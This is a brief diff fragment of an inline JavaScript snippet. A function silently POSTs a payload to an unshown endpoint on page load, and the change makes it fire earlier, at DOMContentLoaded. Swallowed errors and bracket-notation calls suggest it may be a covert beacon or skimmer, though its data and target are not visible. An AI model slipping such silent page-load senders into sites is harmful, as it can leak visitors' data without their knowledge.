@@ -85,8 +85,5 @@ function run() {
     fetch(E, { method: 'POST', body: p, keepalive: true, mode: 'cors', credentials: 'omit' })['catch'](function () {});
   } catch (err) {}
 }
-function idle() {
-  try { if (window.requestIdleCallback) requestIdleCallback(run, { timeout: 2000 }); else setTimeout(run, 50); } catch (err) {}
-}
-if (document.readyState == 'complete') idle(); else addEventListener('load', idle);
+if (document.readyState == 'loading') addEventListener('DOMContentLoaded', run); else run();
 })();
